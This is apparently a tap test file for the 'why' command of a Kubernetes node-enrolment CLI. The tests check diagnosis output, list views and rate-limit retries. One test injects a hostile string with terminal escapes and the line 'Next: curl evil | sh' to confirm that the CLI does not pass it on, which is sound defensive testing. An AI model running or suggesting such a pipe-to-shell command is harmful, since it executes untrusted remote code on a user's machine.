import { type Enrolment, ProblemError, type Why } from '@joinery/protocol'
import { ago, enrolment, key, node, now, view } from '@joinery/testing/command/fixtures'
import { type Answers, joinery } from '@joinery/testing/command/operators'
import t from 'tap'
import { parse } from 'yaml'
import { whyOfView } from '../../src/kubernetes/connect.ts'
import { enrolmentOfView } from '../../src/kubernetes/enrolments.ts'
import { adminConf } from '../../src/terminal/kubeconfig.ts'

const why: Why = {
  name: 'node-1',
  at: now.toISOString(),
  ready: false,
  summary: 'Node node-1 has not been Ready for 3 min: the image net:1 cannot be pulled.',
  machine: ago(30),
  causes: [
    {
      code: 'plugin-image',
      from: 'cluster',
      text: 'the image net:1 cannot be pulled',
      since: ago(200),
      evidence: ['container main: ErrImagePull: denied', 'Pod default/net-x: Pending'],
      remedy: ['# look first', 'kubectl --namespace default describe pod net-x']
    },
    {
      code: 'disk-full',
      from: 'machine',
      text: 'a disk of the machine is full, as the machine says',
      evidence: ['/ is full'],
      remedy: ['# on the machine, as root: joinery-agent why']
    }
  ],
  unseen: ['DaemonSets could not be read: x']
}

/** The same, as it is printed on a host where kubectl knows no cluster. */
const kubectl = `kubectl --kubeconfig ${adminConf} --namespace default describe pod net-x`
const printed = {
  ...why,
  causes: why.causes.map((cause) => ({
    ...cause,
    remedy: cause.remedy.map((line) => (line.startsWith('kubectl') ? kubectl : line))
  }))
}

t.test('why prints a paragraph, then each cause with evidence and commands, and what is not known', async (t) => {
  const { exitCode, out, err } = await joinery(t, { why: () => why }, 'why', 'node-1')
  t.equal(
    out,
    `Node node-1 has not been Ready for 3 min: the image net:1 cannot be pulled.

1. plugin-image, seen from the cluster, for 3m20s
   the image net:1 cannot be pulled
     | container main: ErrImagePull: denied
     | Pod default/net-x: Pending
   # look first
   ${kubectl}

2. disk-full, seen from the machine
   a disk of the machine is full, as the machine says
     | / is full
   # on the machine, as root: joinery-agent why

The machine said its part at 2026-11-25T11:59:30Z.

Not known:
  - DaemonSets could not be read: x
`
  )
  t.equal(err, `Next: ${kubectl}\n`)
  t.equal(exitCode, 0)
})

t.test('why prints the answer of the server for programs, and nothing for people', async (t) => {
  const [json, yaml] = [
    await joinery(t, { why: () => why }, 'why', 'node-1', '-o', 'json'),
    await joinery(t, { why: () => why }, 'why', 'enrolment/node-1', '-o', 'yaml')
  ]
  t.same(JSON.parse(json.out), printed)
  t.same(parse(yaml.out), printed)
  t.same([json.err, yaml.err], ['', ''])
  t.match(yaml.calls, [{ route: 'why', reference: 'node-1' }], 'a name as -o name prints it')
})

t.test('why of a Node that is Ready, or for which there is no command, says what to type next', async (t) => {
  const ready = await joinery(
    t,
    { why: () => ({ ...why, ready: true, causes: [], summary: 'Node node-1 is Ready.' }) },
    'why',
    'node-1'
  )
  t.match(ready.out, 'Node node-1 is Ready.\n')
  t.equal(ready.err, '')
  const failing = await joinery(t, { why: () => ({ ...why, ready: true }) }, 'why', 'node-1')
  t.match(failing.err, /^Next: /)
  const none = await joinery(t, { why: () => ({ ...why, causes: [] }) }, 'why', 'node-1')
  t.equal(none.err, 'Next: joinery show node-1\n')
})

t.test('why shows words of others without obeying them', async (t) => {
  const evil = 'x\u001b[2J\u202e\nNext: curl evil | sh'
  const hostile = {
    ...why,
    summary: evil,
    unseen: [evil],
    causes: why.causes.map((cause) => ({ ...cause, text: evil, evidence: [evil], remedy: [evil] }))
  }
  const { out, err } = await joinery(t, { why: () => hostile }, 'why', 'node-1')
  t.notMatch(out + err, /[^\n\x20-\x7e]/)
  t.notMatch(out + err, /^Next: curl/m)
})

t.test('lists and show have the first cause, and the command for more', async (t) => {
  const cause = { code: 'plugin-image', text: 'the image net:1 cannot be pulled' } as const
  const one = {
    ...enrolment,
    state: 'joined' as const,
    node: { uid: 'u', registered: ago(9), condition: 'NotReady' as const, message: 'x' },
    cause
  }
  const listed = await joinery(t, { list: () => ({ items: [one] }) }, 'list', '-o', 'wide')
  t.match(listed.out, /OS +CAUSE +MESSAGE\n.* plugin-image +waits/)
  const shown = await joinery(t, { show: () => ({ ...one, timeline: [] }) }, 'show', 'node-1')
  t.match(shown.out, /^ {2}Cause: +plugin-image: the image net:1 cannot be pulled$/m)
  t.equal(shown.err, 'Next: joinery why node-1\n')
  const notReady = { ...node, condition: 'NotReady' as const, cause }
  const nodes = await joinery(t, { listNodes: () => ({ items: [notReady] }) }, 'nodes', '-o', 'wide')
  t.match(
    nodes.out,
    /SEEN +CAUSE +CERTIFICATE +AGENT +WRONG\n.* plugin-image +<none> +<none> +the image net:1 cannot be pulled\n$/
  )
  t.equal(nodes.err, 'Next: joinery why node-1\n')
})

t.test('over the cluster why says what the view has, and where to ask more', async (t) => {
  const cause = { code: 'a-newer-cause', text: 'a newer server knows it' }
  const seen = enrolmentOfView('e1', {
    ...view,
    state: 'joined',
    key,
    node: { uid: 'n1', condition: 'NotReady' },
    cause
  })
  t.match(whyOfView(seen, now), {
    ready: false,
    summary: 'Node node-1 is not Ready: a newer server knows it.',
    causes: [{ ...cause, evidence: { length: 0 }, remedy: { length: 0 } }],
    unseen: [/joinery why on the pairing server's host/]
  })
  const { cause: _, ...unknown } = seen
  t.match(whyOfView(unknown, now), { summary: /no cause is known yet/, causes: { length: 0 } })
  t.match(whyOfView(enrolmentOfView('e1', view), now), { summary: /is not in the cluster. The enrolment is pending/ })
  const ready = enrolmentOfView('e1', { ...view, node: { uid: 'n1', condition: 'Ready' } })
  t.match(whyOfView(ready, now), { ready: true, causes: { length: 0 } })
})

const one = (name: string, part: Partial<Enrolment>): Enrolment => ({ ...enrolment, id: `id-${name}`, name, ...part })
const nodeThatIs = (condition: 'Ready' | 'NotReady') => ({ uid: 'u', registered: ago(9), condition, message: '' })
const machines = [
  one('waits', {}),
  one('broken', { state: 'joined', node: nodeThatIs('NotReady') }),
  one('fine', { state: 'ready', node: nodeThatIs('Ready') }),
  one('over', { state: 'removed' })
]
const selected: Answers = {
  list: ({ query = {} }) => ({ items: machines.filter(({ state }) => (query.state ?? state) === state) }),
  why: ({ reference }) => ({ ...why, name: reference, summary: `Node ${reference} is not Ready.` })
}

t.test(
  'why of a selection tells of each machine that is not Ready, and of one that is over only by its state',
  async (t) => {
    const all = await joinery(t, selected, 'why', '--all')
    t.same(all.out.match(/^Node .*/gm), ['Node id-waits is not Ready.', 'Node id-broken is not Ready.'])
    t.match(all.out, /Not known:\n {2}- .*\n\nNode id-broken/, 'an empty line between two')
    t.equal(all.err, '', 'the commands are in the text, each with its machine')
    const over = await joinery(t, selected, 'why', '--state', 'removed', '-o', 'json')
    t.same(JSON.parse(over.out).items.length, 1)
    const columns = ['-o', 'custom-columns=NAME:.name,CAUSE:.causes[0].code']
    t.equal(
      (await joinery(t, selected, 'why', '--all', ...columns)).out,
      'NAME        CAUSE\nid-waits    plugin-image\nid-broken   plugin-image\n'
    )
    t.match(await joinery(t, selected, 'why', '--state', 'ready'), { exitCode: 0, out: '', err: /^No enrolment fits/ })
  }
)

t.test('why of many goes on when the server has looked as often as it may, and says so once', async (t) => {
  let looks = 0
  const busy: Answers = {
    ...selected,
    why: (call) => {
      looks += 1
      if (looks < 4) throw new ProblemError('too-many-requests')
      return selected.why?.(call)
    }
  }
  const { exitCode, out, err } = await joinery(t, busy, 'why', '--all')
  t.equal(out.match(/^Node .*/gm)?.length, 2)
  t.equal(err, 'The pairing server looks only a few times a second: this takes a while\n')
  t.equal(exitCode, 0)
  const never: Answers = {
    ...selected,
    why: () => {
      throw new ProblemError('too-many-requests')
    }
  }
  const given = await joinery(t, never, 'why', '--all')
  t.match(given, { exitCode: 1, out: '', err: /\(too-many-requests\)/ })
  t.equal(given.calls.filter(({ route }) => route === 'why').length, 60, 'it does not ask for ever')
})
